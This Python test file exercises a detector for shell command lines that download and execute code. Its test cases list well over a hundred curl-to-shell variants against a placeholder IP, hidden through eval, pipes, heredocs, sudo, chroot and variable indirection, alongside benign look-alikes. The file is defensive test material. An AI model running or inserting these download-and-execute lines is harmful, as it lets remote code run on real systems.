"""What a command line downloads and executes is found; what it only compares or names is not."""

from __future__ import annotations

import pytest

from drift.alerts.domain.argv_patterns import argv_signals
from drift.alerts.domain.executed_downloads import executes_download

GET = "curl -s http://203.0.113.9/x"
EXECUTED = [
    # The beginning of a command
    f"sh -c set -e\n$({GET})",
    f"sh -c ($({GET}))",
    f"sh -c {{ $({GET}); }}",
    f"sh -c if $({GET}); then true; fi",
    f"sh -c while $({GET}); do true; done",
    f"sh -c ! $({GET})",
    f"sh -c true & $({GET})",
    f"sh -c case x in x) $({GET});; esac",
    f"sh -c echo $(case x in x) $({GET});; esac)",
    f"sh -c f() {{ $({GET}); }}; f",
    f"sh -c A=1 $({GET})",
    f"sh -c 2>/dev/null $({GET})",
    f"sh -c true \\\n && $({GET})",
    f"sh -c `{GET}`",
    f"sh -c `echo \\`{GET}\\``",
    # Behind a command that executes it
    *(f"sh -c {prefix} $({GET})" for prefix in ("time", "env A=1", "sudo -u app", "nohup", "timeout 5", "xargs")),
    f'sh -c eval "a; echo $({GET})"',
    f'sh -c trap "$({GET})" EXIT',
    f'sh -c alias ls="$({GET})"',
    f"sh -c find . -exec $({GET}) ;",
    f"kubectl exec a -- $({GET})",
    f'kubectl exec a -- sh -c "$({GET})"',
    f'sh -c PROMPT_COMMAND="$({GET})" bash -i -l',
    f"sh -c set -- $({GET}); $1",
    f"sh -c echo $({GET}); $_",
    f"bash -c '$0; echo' \"$({GET})\"",
    f'sh -c read X <<< "$({GET})"; $X',
    # A shell's or an interpreter's option for code, its input or its file
    f'sh -c . /dev/stdin <<< "$({GET})"',
    f'sh -c bash -s a <<< "$({GET})"',
    f"sh -c bash <<EOF\n$({GET})\nEOF",
    f"sh -c bash <<'EOF'\necho $({GET})\nEOF",
    f"sh -c cat <<EOF | bash\necho $({GET})\nEOF",
    f'sh -c bash -c"$({GET})"',
    f'sh -c bash -c "cd /; echo $({GET})"',
    f"bash --rcfile /x -c $({GET})",
    f'csh -c "$({GET})"',
    f'sh -c fish -c "$({GET})"',
    f"sh -c bash <(command {GET})",
    # Other commands that download
    f'bash -c "$(command {GET})"',
    f'bash -c "$(http_proxy=p {GET})"',
    f'bash -c "$(cd /tmp && {GET})"',
    'bash -c "$(timeout 5 busybox wget -qO- http://203.0.113.9/x)"',
    f'bash -c "$(echo "$({GET})")"',
    # A variable
    f"sh -c X=$({GET}); $X",
    f'sh -c X=$({GET})\nbash <<< "$X"',
    f'sh -c X=`{GET}`; . /dev/stdin <<< "$X"',
    f'sh -c X="a $({GET})"; bash -c "$X"',
    f'sh -c X=$({GET}); Y="${{X#a}}"; eval "$Y"',
    f"sh -c X=$({GET}); exec $X",
    f"sh -c X=$({GET}); if true; then $X; fi",
    f"sh -c X=$({GET}); $(echo $X)",
    f'sh -c X=$({GET}); python3 -c "$X"',
    f'sh -c X=$({GET}); source <(echo "$X")',
    f'sh -c export X=$({GET}); sh -c "$X"',
    f'sh -c X=($({GET})); "${{X[@]}}"',
    f'sh -c printf -v X "$({GET})"; $X',
    f'sh -c X=$({GET}); printf -v Y "$X"; $Y',
    f"sh -c for i in $({GET}); do $i; done",
    f"sh -c {GET} | while read l; do $l; done",
    f'sh -c X=$({GET}); set -- "$X"; $1',
    f'sh -c f() {{ $1; }}; X=$({GET}); f "$X"',
    f'sh -c export "X=a" Y=$({GET}); $Y',
    f'sh -c export X="a Y=$({GET})"; $X',
    # A variable by another one
    f'sh -c A=$({GET}); B=a; eval "${{!B}}"',
    f'bash -c A=$({GET}); B=A; bash -c "${{!B}}"',
    f'bash -c A=$({GET}); B=A; C="${{!B}}"; eval "$C"',
    f'bash -c A=$({GET}); set -- A; eval "${{!1}}"',
    *(f'bash -c {each} -n B=A; A=$({GET}); eval "$B"' for each in ("declare", "local", "typeset")),
    f'bash -c declare -gn B=A; A=$({GET}); C=$B; eval "$C"',
    # Options before that for code, and shells that a variable names
    f'bash -c A=$({GET}); bash -cx "$A"',
    f'bash -c A=$({GET}); bash -euo pipefail -c "$A"',
    f'bash -c A=$({GET}); bash -e -o pipefail -c "$A"',
    f'bash -c A=$({GET}); ruby -r socket -e "$A"',
    f'bash -c A=$({GET}); $SHELL -c "$A"',
    f'bash -c A=$({GET}); "$SHELL" -euo pipefail -c "$A"',
    f'bash -c A=$({GET}); S=sh; ${{S}} -c "$A"',
    f'bash -c A=$({GET}); S=sh; /bin/$S -c "$A"',
    f'bash -c A=$({GET}); S=sh; ba$S -c "$A"',
    f'bash -c A=$({GET}); $(which sh) -c "$A"',
    f'bash -c A=$({GET}); S=sh; $S <<< "$A"',
    f'bash -c A=$({GET}); S=sh; $S <(echo "$A")',
    # The value of a prefix's option
    *(
        f"bash -c A=$({GET}); {prefix} $A"
        for prefix in (
            "sudo -u root",
            "sudo -nu root -g adm",
            'sudo -u "$USER"',
            "sudo --user root",
            "env -u X",
            "exec -a X",
            'exec -a "a b"',
            "exec -a cat",
            "exec -a bash",
            "timeout -s KILL 5",
            "chroot /",
            "chroot /mnt/$X",
            "busybox chroot /mnt",
            "chroot $(pwd)",
            "sudo -u root env -u X nice -n 5",
        )
    ),
    f'bash -c A=$({GET}); sudo -u root bash -c "$A"',
    f"bash -c A=$({GET}); sudo -u root eval $A",
    f"bash -c sudo -s bash <<EOF\necho $({GET})\nEOF",
    # Another name for what downloads
    f'bash -c function f {{ {GET}; }}; eval "$(f)"',
    f"bash -c function f() {{ {GET}; }}; A=$(f); $A",
    f'sh -c f() {{ {GET}; }}; bash -c "$(f)"',
    f"sh -c f() {{ {GET}; }}; X=$(f); $X",
    'sh -c f() { C=curl; eval "$($C -s http://203.0.113.9/x)"; }; f',
    "sh -c echo $(case x in x) X=$(curl -s http://203.0.113.9/x); $X;; esac)",
    "sh -c C=curl; $($C -s http://203.0.113.9/x)",
    'sh -c C="/usr/bin/curl -s"; bash -c "$($C http://203.0.113.9/x)"',
    'sh -c C=$(which curl); bash -c "$(${C} http://203.0.113.9/x)"',
    # Quotes and brackets that would hide it
    f'env A=" sh -c $({GET}) "',
    f'sh -c echo $(A=")" $({GET}))',
    f"sh -c echo '; $({GET})",
    # Pipes
    f"sh -c {GET} | sudo -E bash -",
    f"sh -c {GET} | env A=1 nohup bash",
    f"sh -c {GET} | sudo -u root bash",
    f"sh -c {GET} | sudo --user root -g adm env -u X bash",
    f"sh -c {GET} | chroot /mnt sh",
    f"sh -c {GET} | xargs -I {{}} sh -c {{}}",
    f"sh -c {GET} | (cd /tmp; sh)",
    f"sh -c {GET} | ( cd /tmp && exec sh )",
    f"sh -c {GET} | {{ cd /tmp\nsudo -u app sh; }}",
    f"sh -c {GET} |& bash",
    f"sh -c {GET} | xargs -0 -n 1 sh -c",
    f"sh -c {GET} | ( bash )",
    f"sh -c {GET} | tee >(bash)",
    f"sh -c {GET} | . /dev/stdin",
    f'sh -c {GET} | eval "$(cat)"',
    f"sh -c {GET} | python3 -u - a",
    f"sh -c {GET} | node -",
    f"sh -c {GET} | perl",
    f'sh -c echo "$({GET})" | bash',
]
NOT_EXECUTED = [
    f"find . $({GET})",
    f"cp -r . $({GET})",
    f"kubectl exec $({GET})",
    f"sh -c find . -name $({GET})",
    f"sh -c cp -r . $({GET})",
    f"sh -c kubectl exec $({GET}) -- ls /",
    f"sh -c cd /app\nTOKEN=$({GET})\nexport TOKEN\nexec app",
    f"sh -c STATUS=$({GET}); [[ $STATUS == 200 ]] && echo ok || exit 1",
    f'sh -c AUTH="Authorization: Bearer $({GET})"; {GET} -H "$AUTH"',
    f'sh -c {GET} -H "Authorization: Bearer $({GET})"',
    f'sh -c X=$({GET}); exec app --token "$X"',
    f'sh -c X=$({GET}); exec "$APP" --token "$X"',
    f'sh -c X=$({GET}); echo "$X" | jq .',
    f'sh -c export IP=$({GET}) PORT=1; exec "$@"',
    f"sh -c local -r X=$({GET})",
    f'sh -c if [ "$({GET})" != 200 ]; then exit 1; fi',
    f'sh -c while [ "$({GET} | jq -r .state)" != "ok" ]; do sleep 5; done',
    f"sh -c [ $({GET}) = 200 ] && [ $({GET}) = 200 ]",
    f"sh -c test `{GET}` = `{GET}`",
    f'sh -c case "$({GET})" in ok) exit 0;; esac',
    f"sh -c HOSTS=($({GET})); echo ${{HOSTS[@]}}",
    f"sh -c {GET} | while read l; do echo $l; done",
    "sh -c $(which curl) -s http://a/x",
    "sh -c $(command -v curl) -s http://a/x",
    f"sh -c ({GET} -o /tmp/a; true)",
    f"sh -c {GET} | xargs echo",
    f"sh -c {GET} | env A=1 grep sh",
    f'sh -c {GET} | node -e "console.log(1)"',
    f"sh -c {GET} | python3 -m json.tool",
    f"sh -c {GET} | ./parse.sh.py",
    f"sh -c f() {{ {GET}; }}; [ $(f) = ok ] && exit 0",
    f"bash -c function f {{ {GET}; }}; [ $(f) = ok ] && exit 0",
    f'sh -c X=$({GET}); launch "$X"',
    f'sh -c X=$({GET}); "$APP" run --token "$X"',
    f'sh -c X=$({GET}); sudo -u app echo "$X"',
    f'sh -c X=$({GET}); sudo -E app --token "$X"',
    f'sh -c X=$({GET}); env -i A=1 app --token "$X"',
    f'sh -c X=$({GET}); chroot /mnt echo "$X"',
    f'sh -c X=$({GET}); Y=X; echo "${{!Y}}"',
    f'sh -c declare -n Y=X; X=$({GET}); [ "$Y" = ok ]',
    "sh -c declare -n Y=X; $Y; curl -s http://a/x",
    f"sh -c {GET} | sudo -u app grep sh",
    f"sh -c {GET} | (cd /tmp; tar x)",
    f"sh -c {GET} | env -i grep sh",
    'sh -c C=curl; [ "$($C -s http://a/x)" = ok ]',
]


@pytest.mark.parametrize("line", EXECUTED)
def test_a_download_that_is_executed_is_found(line: str) -> None:
    assert "encoded" in argv_signals(line.split(" "))


@pytest.mark.parametrize("line", NOT_EXECUTED)
def test_a_download_that_is_only_compared_or_named_is_not(line: str) -> None:
    assert "encoded" not in argv_signals(line.split(" "))


def test_a_download_for_a_command_that_is_not_known_counts() -> None:
    assert executes_download(f"sh -c launch $({GET})")
    assert not executes_download(f"sh -c launch {GET}")
